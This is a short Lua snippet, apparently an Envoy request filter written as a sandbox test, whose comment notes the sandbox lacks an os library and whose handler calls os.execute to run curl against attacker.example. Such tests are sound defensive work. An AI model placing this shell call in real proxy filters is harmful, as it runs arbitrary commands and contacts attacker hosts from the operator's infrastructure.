-- The sandbox has no os library.
function envoy_on_request(request_handle)
  os.execute("curl http://attacker.example")
end
